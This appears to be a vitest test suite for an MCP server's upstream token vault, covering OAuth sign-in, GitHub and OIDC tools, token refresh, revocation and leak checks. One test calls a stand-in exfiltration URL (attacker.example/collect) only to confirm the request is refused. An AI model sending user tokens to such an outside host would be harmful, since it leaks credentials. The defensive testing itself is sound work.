/**
 * The upstream token vault (UPSTREAM_TOKENS): tools that act as the user upstream, against the real
 * dev OIDC IdP and the GitHub double. A full sign-in each time: consent, the IdP, /callback, the
 * code exchange; then MCP calls, and what the vault stored, read straight from its Durable Object.
 */
import { env, runInDurableObject } from 'cloudflare:test';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { UpstreamTokenVault } from '../../src/upstream/vault';
import { getOAuthApi } from '@cloudflare/workers-oauth-provider';
import type { GrantProps } from '../../src/auth/props';
import { loadConfig } from '../../src/config';
import type { RequestAuth } from '../../src/mcp/request-auth';
import { providerOptions } from '../../src/provider';
import { missingUpstreamScope, upstreamApiFor } from '../../src/upstream/api';
import { DevIdp } from './dev-idp';
import { expireGithubToken, GITHUB_API, GITHUB_APP_CLIENT_ID, GITHUB_APP_CLIENT_SECRET, GITHUB_CLIENT_ID, GITHUB_CLIENT_SECRET, GITHUB_WEB, githubStats, revokeGithubAuthorization } from './fixtures/github.ts';
import { VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS } from './provided-context.ts';
import { CALLBACK, liveCookies, McpWire, ORIGIN, pkcePair, registerClient, tokenRequest, worker, workerWithEnv, type RegisteredClient, type TokenResponse } from './helpers';

afterEach(() => {
  vi.restoreAllMocks();
});

interface Connected {
  client: RegisteredClient;
  tokens: TokenResponse;
  /** The consent page, as the user saw it. */
  consent: string;
  wire: McpWire;
}

/**
 * Authorizes a new client through the whole flow with `variant` (consent with `scopes` ticked, the
 * upstream sign-in by `browse`, /callback, the code exchange) and opens MCP with the token.
 */
async function connect(variant: Env, scopes: string[], browse: (location: string) => Promise<string>): Promise<Connected> {
  const client = await registerClient();
  const { verifier, challenge } = await pkcePair();
  const query = new URLSearchParams({ response_type: 'code', client_id: client.client_id, redirect_uri: CALLBACK, state: 'st', code_challenge: challenge, code_challenge_method: 'S256', scope: scopes.join(' ') });
  const page = await workerWithEnv(variant, `/authorize?${query}`);
  expect(page.status).toBe(200);
  const consent = await page.text();
  const form = new URLSearchParams({ handle: /name="handle" value="([^"]+)"/.exec(consent)?.[1] ?? '', shown: /name="shown" value="([^"]+)"/.exec(consent)?.[1] ?? '', decision: 'approve' });
  for (const scope of scopes) form.append('scope', scope);
  const approved = await workerWithEnv(variant, '/authorize', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: page.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ') }, body: form.toString() });
  expect(approved.status).toBe(302);
  const back = await browse(approved.headers.get('Location') ?? '');
  const done = await workerWithEnv(variant, back, { headers: { Cookie: liveCookies(approved) } });
  expect(done.status).toBe(302);
  const code = new URL(done.headers.get('Location') ?? '').searchParams.get('code');
  expect(code, done.headers.get('Location') ?? '').toEqual(expect.any(String));
  const exchanged = await tokenRequest(client, { grant_type: 'authorization_code', code: code as string, redirect_uri: CALLBACK, code_verifier: verifier });
  expect(exchanged.status).toBe(200);
  const tokens = await exchanged.json<TokenResponse>();
  const wire = new McpWire(tokens.access_token, '/mcp', { env: variant });
  await wire.initialize();
  return { client, tokens, consent, wire };
}

interface ToolOutcome {
  isError?: boolean;
  structuredContent?: Record<string, unknown>;
  content?: { type: string; text: string }[];
}

/** A tools/call's result (HTTP 200 and a JSON-RPC result, which a tool error is too). */
async function call(wire: McpWire, name: string, args: Record<string, unknown> = {}): Promise<ToolOutcome> {
  const { status, message } = await wire.callTool(name, args);
  expect(status).toBe(200);
  expect(message?.error).toBeUndefined();
  return message?.result as ToolOutcome;
}

/** The GitHub double's browser step: straight back with a code for `login`. */
function githubBrowser(login = 'octocat') {
  return async (location: string): Promise<string> => {
    const toGithub = new URL(location);
    toGithub.searchParams.set('login', login);
    const back = new URL((await fetch(toGithub, { redirect: 'manual' })).headers.get('Location') ?? '');
    return `${back.pathname}${back.search}`;
  };
}

function githubEnv(extra: Record<string, string> = {}): Env {
  return { ...env, UPSTREAM: 'github', GITHUB_CLIENT_ID, GITHUB_CLIENT_SECRET, GITHUB_BASE_URL: GITHUB_WEB, GITHUB_API_URL: GITHUB_API, ...extra } as unknown as Env;
}

/** What the vault object for a grant holds in storage, every key and value as stored. */
async function vaultStorage(vaultId: string): Promise<string> {
  const stub = env.UPSTREAM_VAULT.get(env.UPSTREAM_VAULT.idFromName(vaultId));
  return runInDurableObject(stub, async (_instance: UpstreamTokenVault, state) => JSON.stringify([...(await state.storage.list()).entries()]));
}

/** When the vault object of a grant deletes itself (its alarm), ms. */
async function vaultAlarm(vaultId: string): Promise<number | null> {
  const stub = env.UPSTREAM_VAULT.get(env.UPSTREAM_VAULT.idFromName(vaultId));
  return runInDurableObject(stub, (_instance: UpstreamTokenVault, state) => state.storage.getAlarm());
}

/** The vault id /callback put in the grant's metadata (in clear, for revocation). */
async function vaultIdOf(tokens: TokenResponse): Promise<string> {
  const [userId, grantId] = tokens.access_token.split(':');
  const grant = await env.OAUTH_KV.get<{ metadata: { vaultId?: string } }>(`grant:${userId}:${grantId}`, 'json');
  const vaultId = grant?.metadata.vaultId;
  expect(vaultId).toMatch(/^[A-Za-z0-9_-]{22}$/);
  return vaultId as string;
}

describe('upstream tokens with GitHub (on by default)', () => {
  it('offers the GitHub tools\' scopes, and says on the consent page what GitHub will be asked for', async () => {
    const metadata = await workerWithEnv(githubEnv(), '/.well-known/oauth-protected-resource/mcp');
    expect((await metadata.json<{ scopes_supported: string[] }>()).scopes_supported).toEqual(['profile', 'notes:read', 'notes:write', 'github:profile', 'github:repos', 'github:orgs']);
    const { consent } = await connect(githubEnv({ GITHUB_SCOPES: 'repo' }), ['github:profile'], githubBrowser());
    const asked = consent.slice(consent.indexOf('id="upstream-scopes"'));
    expect(asked).toContain('Next, you will sign in with GitHub, which will be asked to let this server:');
    expect(asked).toContain('read your profile <small><code>read:user</code>');
    expect(asked).toContain('read and write all your repositories, private ones included <small><code>repo</code>');
  });

  it('github_profile reads GitHub as the user; the token is in no response, and only encrypted in the vault', async () => {
    const { wire, tokens } = await connect(githubEnv(), ['github:profile', 'github:repos'], githubBrowser('octocat'));
    expect(await wire.toolNames()).toEqual(['github_profile', 'github_repos']);
    const profile = await call(wire, 'github_profile');
    expect(profile.isError).toBeUndefined();
    expect(profile.structuredContent).toMatchObject({ login: 'octocat', id: 583231, name: 'The Octocat' });
    const stored = await vaultStorage(await vaultIdOf(tokens));
    expect(stored).toContain('"sealed"');
    // GitHub's tokens start gho_/ghu_/ghr_; neither the vault nor any answer holds one in clear.
    expect(stored).not.toMatch(/gh[our]_/);
    expect(JSON.stringify(profile)).not.toMatch(/gh[our]_/);
    expect(JSON.stringify(tokens)).not.toMatch(/gh[our]_/);
  });

  it('keeps the vault as long as its grant: every refresh of the client\'s tokens moves its deletion out', async () => {
    const { tokens, client } = await connect(githubEnv(), ['github:profile'], githubBrowser('octocat'));
    const vaultId = await vaultIdOf(tokens);
    const first = await vaultAlarm(vaultId);
    // 30 days (REFRESH_TOKEN_TTL_SECONDS and the idle TTL by default) from the sign-in.
    expect(first).toBeGreaterThan(Date.now() + 29 * 86_400_000);
    await sleep(20);
    const refreshed = await tokenRequest(client, { grant_type: 'refresh_token', refresh_token: tokens.refresh_token });
    expect(refreshed.status).toBe(200);
    expect(await vaultAlarm(vaultId)).toBeGreaterThan(first as number);
  });

  it('github_repos pages through the user\'s repositories with a cursor', async () => {
    const { wire } = await connect(githubEnv(), ['github:repos'], githubBrowser('octocat'));
    const first = await call(wire, 'github_repos', { perPage: 1 });
    expect(first.isError).toBeUndefined();
    const page1 = first.structuredContent as { repositories: { fullName: string }[]; cursor?: string };
    expect(page1.repositories).toHaveLength(1);
    expect(page1.cursor).toBe('2');
    const second = await call(wire, 'github_repos', { perPage: 1, cursor: page1.cursor });
    const page2 = second.structuredContent as { repositories: { fullName: string }[] };
    expect(page2.repositories[0]?.fullName).not.toBe(page1.repositories[0]?.fullName);
  });

  it('refuses a scope of the catalogue the configuration does not offer, before anything is shown', async () => {
    const client = await registerClient();
    const { challenge } = await pkcePair();
    const query = new URLSearchParams({ response_type: 'code', client_id: client.client_id, redirect_uri: CALLBACK, state: 'st', code_challenge: challenge, code_challenge_method: 'S256', scope: 'github:repos' });
    // The default test env is OIDC without upstream tokens: github:repos is not offered there.
    const page = await workerWithEnv(env, `/authorize?${query}`);
    expect(page.status).toBe(400);
    expect(await page.text()).toContain('Unknown scope: github:repos');
  });
});

describe('upstream tokens with an OIDC IdP (UPSTREAM_TOKENS=on)', () => {
  it('upstream_userinfo reads the IdP\'s userinfo endpoint as the user', async () => {
    const idp = DevIdp.install();
    const variant = { ...idp.env, UPSTREAM_TOKENS: 'on' } as Env;
    const { wire, consent, tokens } = await connect(variant, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    expect(consent).toContain('which will be asked to let this server:');
    expect(consent).toContain('confirm who you are <small><code>openid</code>');
    const result = await call(wire, 'upstream_userinfo');
    expect(result.isError).toBeUndefined();
    expect(result.structuredContent).toMatchObject({ claims: { sub: 'alice', email: 'alice@example.com' } });
    expect(await vaultStorage(await vaultIdOf(tokens))).not.toContain('alice@example.com');
  });

  it('keeps nothing when UPSTREAM_TOKENS is off (the OIDC default): no vault, no upstream tools', async () => {
    const idp = DevIdp.install();
    const { wire, tokens, consent } = await connect(idp.env, ['profile'], (location) => idp.signIn(location, 'alice'));
    expect(consent).toContain('this server learns only who you are');
    const [userId, grantId] = tokens.access_token.split(':');
    const grant = await env.OAUTH_KV.get<{ metadata: Record<string, unknown> }>(`grant:${userId}:${grantId}`, 'json');
    expect(grant?.metadata).not.toHaveProperty('vaultId');
    expect(await wire.toolNames()).toEqual(['whoami']);
  });
});

/** Upstream tokens on, with a refresh token asked for: what a deployment with tools that act as the user sets. */
function refreshingIdp(): DevIdp {
  return DevIdp.shortLived({ UPSTREAM_TOKENS: 'on', OIDC_SCOPES: 'openid email profile offline_access' });
}

/**
 * Every token an upstream's token endpoint issued while this test ran (the Worker's code exchanges and
 * the vault's refreshes), read off the responses as they pass through fetch.
 */
function recordIssuedTokens(tokenEndpoint: (url: URL) => boolean): string[] {
  const issued: string[] = [];
  const original = globalThis.fetch;
  const spy = vi.isMockFunction(original) ? vi.mocked(original) : vi.spyOn(globalThis, 'fetch');
  const passThrough = (vi.isMockFunction(original) ? vi.mocked(original).getMockImplementation() : undefined) ?? original;
  spy.mockImplementation(async (input, init) => {
    const response = await passThrough(input, init);
    if (tokenEndpoint(new URL(new Request(input, init).url))) {
      const body = await response.clone().json<Record<string, unknown>>().catch(() => ({}) as Record<string, unknown>);
      for (const name of ['access_token', 'refresh_token', 'id_token']) if (typeof body[name] === 'string') issued.push(body[name]);
    }
    return response;
  });
  return issued;
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('refreshing upstream tokens (the dev IdP, access tokens of a few seconds)', () => {
  it('a call after the upstream access token expired succeeds through one refresh; the next one needs none', async () => {
    const idp = refreshingIdp();
    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    await sleep(VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS * 1000 + 200);
    const before = await idp.refreshesOf('alice');
    const result = await call(wire, 'upstream_userinfo');
    expect(result.isError, JSON.stringify(result)).toBeUndefined();
    expect(result.structuredContent).toMatchObject({ claims: { sub: 'alice' } });
    expect(await idp.refreshesOf('alice')).toBe(before + 1);
    expect((await call(wire, 'upstream_userinfo')).isError).toBeUndefined();
    expect(await idp.refreshesOf('alice')).toBe(before + 1);
  });

  it('a token the IdP refuses before its time is refreshed once and the call retried', async () => {
    const idp = refreshingIdp();
    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    await idp.expireAccessTokens('alice');
    const before = await idp.refreshesOf('alice');
    const result = await call(wire, 'upstream_userinfo');
    expect(result.isError, JSON.stringify(result)).toBeUndefined();
    expect(await idp.refreshesOf('alice')).toBe(before + 1);
  });

  it('two concurrent calls with an expired token cause exactly one refresh, and both succeed', async () => {
    const idp = refreshingIdp();
    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'bob'));
    await sleep(VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS * 1000 + 200);
    const before = await idp.refreshesOf('bob');
    // The IdP rotates refresh tokens and ends the grant when a used one comes back: a second refresh
    // with the same token would fail both calls, not only count twice.
    const [first, second] = await Promise.all([call(wire, 'upstream_userinfo'), call(wire, 'upstream_userinfo')]);
    expect(first.isError, JSON.stringify(first)).toBeUndefined();
    expect(second.isError, JSON.stringify(second)).toBeUndefined();
    expect(await idp.refreshesOf('bob')).toBe(before + 1);
  });

  it('a refresh token revoked at the IdP: a tool error that says what to do, then 401 and invalid_grant, so the client authorizes again', async () => {
    const idp = refreshingIdp();
    const { wire, tokens, client } = await connect(idp.env, ['upstream:userinfo', 'profile'], (location) => idp.signIn(location, 'alice'));
    const vaultId = await vaultIdOf(tokens);
    await idp.revoke('alice');
    const result = await call(wire, 'upstream_userinfo');
    expect(result.isError).toBe(true);
    expect(result.content?.[0]?.text).toMatch(/no longer accepts .* This connection has been ended: reconnect this app to sign in with your identity provider again, then retry\.$/);
    // The grant is gone: MCP answers 401 invalid_token, and the refresh token is invalid_grant.
    const after = await wire.request('tools/list');
    expect(after.status).toBe(401);
    expect(after.headers.get('WWW-Authenticate')).toContain('error="invalid_token"');
    const refreshed = await tokenRequest(client, { grant_type: 'refresh_token', refresh_token: tokens.refresh_token });
    expect(refreshed.status).toBe(400);
    expect(await refreshed.json()).toMatchObject({ error: 'invalid_grant' });
    // And its upstream tokens with it.
    expect(await vaultStorage(vaultId)).toBe('[]');
    // Audit records are written in batches after the response: look until they are there.
    const [userId = ''] = tokens.access_token.split(':');
    const since = new Date(Date.now() - 3_600_000).toISOString();
    await vi.waitFor(
      async () => {
        const audit = await worker(`/admin/audit?since=${since}&type=grant.revoked&user=${encodeURIComponent(userId)}`, { headers: { Authorization: `Bearer ${String(Reflect.get(env, 'ADMIN_TOKEN'))}` } });
        expect(await audit.text()).toContain('"reason":"upstream_sign_in_lost"');
      },
      { timeout: 5_000, interval: 200 },
    );
  });

  it('the upstream tokens are in no response, log line, KV value or vault record in clear', async () => {
    const idp = refreshingIdp();
    const issued = recordIssuedTokens((url) => url.href.startsWith(idp.issuer) && url.pathname === '/token');
    const logged: string[] = [];
    for (const method of ['log', 'info', 'warn', 'error', 'debug'] as const) vi.spyOn(console, method).mockImplementation((...args: unknown[]) => void logged.push(args.map(String).join(' ')));
    const { wire, tokens } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    const answers: string[] = [JSON.stringify(tokens)];
    answers.push(JSON.stringify(await call(wire, 'upstream_userinfo')));
    await idp.expireAccessTokens('alice'); // a refresh, so its tokens are among those looked for
    answers.push(JSON.stringify(await call(wire, 'upstream_userinfo')));
    // The code exchange's access, refresh and ID tokens, and the refresh's new pair (at least).
    expect(issued.length).toBeGreaterThanOrEqual(5);
    const kv: string[] = [];
    for (let cursor: string | undefined, done = false; !done; ) {
      const page: KVNamespaceListResult<unknown, string> = await env.OAUTH_KV.list({ cursor });
      for (const key of page.keys) kv.push(`${key.name} ${(await env.OAUTH_KV.get(key.name)) ?? ''} ${JSON.stringify(key.metadata ?? null)}`);
      done = page.list_complete;
      cursor = page.list_complete ? undefined : page.cursor;
    }
    const stored = await vaultStorage(await vaultIdOf(tokens));
    for (const token of issued) {
      for (const [where, text] of [['responses', answers.join('\n')], ['logs', logged.join('\n')], ['OAUTH_KV', kv.join('\n')], ['vault', stored]] as const) {
        expect(text.includes(token), `an upstream token in ${where}`).toBe(false);
      }
    }
  });
});

/** The facts a tool call of `tokens` runs with, as the MCP route builds them from the verified token. */
async function requestAuthOf(variant: Env, tokens: TokenResponse, clientId: string): Promise<RequestAuth> {
  const unwrapped = await getOAuthApi(providerOptions(loadConfig(variant), ORIGIN), variant).unwrapToken<GrantProps>(tokens.access_token);
  if (!unwrapped) throw new Error('token did not unwrap');
  return { user: unwrapped.grant.props, scopes: unwrapped.scope, clientId, grantId: unwrapped.grantId, resource: ORIGIN };
}

describe('upstream.fetch, the capability tools get', () => {
  it('sends the token only to the upstream\'s API origins: anywhere else is refused before anything is sent', async () => {
    const idp = refreshingIdp();
    const { tokens, client } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    const upstream = upstreamApiFor(await requestAuthOf(idp.env, tokens, client.client_id), idp.env);
    const sent = idp.fetched.length;
    await expect(upstream.fetch('https://attacker.example/collect')).rejects.toMatchObject({ problem: 'refused', reason: 'origin_not_allowed' });
    await expect(upstream.fetch(`${idp.issuer.replace('localhost', '127.0.0.1')}/api/me`)).rejects.toMatchObject({ problem: 'refused', reason: 'origin_not_allowed' });
    // Only discovery may have been read meanwhile; no request went anywhere with the token.
    expect(idp.fetched.slice(sent).every((url) => url.includes('/.well-known/'))).toBe(true);
    expect((await upstream.fetch(`${idp.issuer}/api/me`)).status).toBe(200);
  });

  it('an upstream scope the configuration does not ask for is the administrator\'s to add; one it asks for now is a step-up', async () => {
    const idp = refreshingIdp();
    const { tokens, client } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
    const auth = await requestAuthOf(idp.env, tokens, client.client_id);
    // The dev IdP's /api/groups needs `groups`, which OIDC_SCOPES does not name here.
    await expect(upstreamApiFor(auth, idp.env).fetch(`${idp.issuer}/api/groups`)).rejects.toMatchObject({
      problem: 'refused',
      reason: 'upstream_scope_not_configured',
      userMessage: 'Your identity provider needs the "groups" permission for this, which this server does not ask for. An administrator can add it to OIDC_SCOPES.',
    });
    const reconfigured = { ...idp.env, OIDC_SCOPES: 'openid email profile offline_access groups' } as Env;
    await expect(upstreamApiFor(auth, reconfigured).fetch(`${idp.issuer}/api/groups`)).rejects.toMatchObject({
      problem: 'step_up',
      reason: 'upstream_scope_missing',
      userMessage: 'Your identity provider has not given this server the "groups" permission this needs: authorize this app again to grant it, then retry.',
    });
  });
});

describe('a GitHub permission the sign-in lacks (github_orgs needs read:org)', () => {
  it('not asked for by the configuration: a tool error naming the setting; the connection stays', async () => {
    const { wire } = await connect(githubEnv(), ['github:orgs'], githubBrowser('octocat'));
    const result = await call(wire, 'github_orgs');
    expect(result.isError).toBe(true);
    expect(result.content?.[0]?.text).toBe('GitHub needs the "admin:org" or "read:org" or "user" or "write:org" permission for this, which this server does not ask for. An administrator can add it to GITHUB_SCOPES.');
    expect((await wire.request('tools/list')).status).toBe(200);
  });

  it('asked for since the user signed in: HTTP 403 insufficient_scope (a step-up), the grant kept; authorizing again grants it', async () => {
    const before = githubEnv();
    const { tokens } = await connect(before, ['github:orgs'], githubBrowser('octocat'));
    // The operator adds read:org; this sign-in's GitHub token predates it.
    const after = githubEnv({ GITHUB_SCOPES: 'read:org' });
    const stale = new McpWire(tokens.access_token, '/mcp', { env: after });
    await stale.initialize();
    const stepUp = await stale.callTool('github_orgs');
    expect(stepUp.status).toBe(403);
    const challenge = stepUp.headers.get('WWW-Authenticate') ?? '';
    expect(challenge).toContain('error="insufficient_scope"');
    expect(challenge).toContain('scope="github:orgs"');
    expect(challenge).toContain('authorize this app again to grant it');
    // Not an ended grant: everything else still works while the user decides.
    expect((await stale.request('tools/list')).status).toBe(200);
    // In a batch no status can be sent for one call: the tool's error result, and the grant is ended
    // instead, so the client authorizes again all the same.
    const batch = await stale.post([stale.message('tools/call', { name: 'github_orgs', arguments: {} })]);
    expect(batch.status).toBe(200);
    expect(await batch.text()).toContain('authorize this app again to grant it');
    expect((await stale.request('tools/list')).status).toBe(401);
    const again = await connect(after, ['github:orgs'], githubBrowser('octocat'));
    expect(await call(again.wire, 'github_orgs')).toMatchObject({ structuredContent: { organisations: [{ login: 'acme' }] } });
  });
});

describe('refreshing GitHub App user tokens (they expire; OAuth app tokens do not)', () => {
  const appEnv = () => githubEnv({ GITHUB_CLIENT_ID: GITHUB_APP_CLIENT_ID, GITHUB_CLIENT_SECRET: GITHUB_APP_CLIENT_SECRET });

  it('an expired ghu_ token is refreshed with its ghr_ refresh token, rotated, and the call succeeds', async () => {
    const issued = recordIssuedTokens((url) => url.origin === GITHUB_WEB && url.pathname === '/login/oauth/access_token');
    const { wire } = await connect(appEnv(), ['github:profile'], githubBrowser('octocat'));
    const accessToken = issued.find((token) => token.startsWith('ghu_'));
    expect(accessToken).toBeDefined();
    expect(await expireGithubToken(accessToken as string)).toBe(true);
    const before = (await githubStats()).refreshByLogin.octocat ?? 0;
    const result = await call(wire, 'github_profile');
    expect(result.isError, JSON.stringify(result)).toBeUndefined();
    expect(result.structuredContent).toMatchObject({ login: 'octocat' });
    expect((await githubStats()).refreshByLogin.octocat).toBe(before + 1);
  });

  it('an app the user revoked on GitHub: the tool says to reconnect and the grant ends', async () => {
    const { wire } = await connect(appEnv(), ['github:profile'], githubBrowser('hubot'));
    expect(await revokeGithubAuthorization('hubot', GITHUB_APP_CLIENT_ID)).toBeGreaterThan(0);
    const result = await call(wire, 'github_profile');
    expect(result.isError).toBe(true);
    expect(result.content?.[0]?.text).toContain('reconnect this app to sign in with GitHub again');
    expect((await wire.request('tools/list')).status).toBe(401);
  });
});

describe('missingUpstreamScope', () => {
  it('reads RFC 6750 insufficient_scope challenges: every scope named, less those the token has', () => {
    const response = new Response(null, { status: 403, headers: { 'WWW-Authenticate': 'Bearer realm="idp", error="insufficient_scope", scope="openid groups"' } });
    expect(missingUpstreamScope(response, ['openid', 'email'])).toEqual({ scopes: ['groups'], oneOf: false });
  });

  it('reads GitHub\'s X-Accepted-OAuth-Scopes (any one will do) against X-OAuth-Scopes, with GitHub\'s scope hierarchy', () => {
    const refused = new Response(null, { status: 403, headers: { 'X-Accepted-OAuth-Scopes': 'admin:org, read:org, user, write:org', 'X-OAuth-Scopes': 'read:user, user:email' } });
    expect(missingUpstreamScope(refused, undefined)).toEqual({ scopes: ['admin:org', 'read:org', 'user', 'write:org'], oneOf: true });
    const implied = new Response(null, { status: 404, headers: { 'X-Accepted-OAuth-Scopes': 'read:org', 'X-OAuth-Scopes': 'admin:org' } });
    expect(missingUpstreamScope(implied, undefined)).toBeUndefined();
  });

  it('says nothing of an answer that does not name a missing scope, nor of GitHub App tokens (no X-OAuth-Scopes)', () => {
    expect(missingUpstreamScope(new Response(null, { status: 403 }), ['repo'])).toBeUndefined();
    expect(missingUpstreamScope(new Response(null, { status: 200, headers: { 'X-Accepted-OAuth-Scopes': 'repo', 'X-OAuth-Scopes': '' } }), [])).toBeUndefined();
    expect(missingUpstreamScope(new Response(null, { status: 404, headers: { 'X-Accepted-OAuth-Scopes': 'repo' } }), [])).toBeUndefined();
  });
});
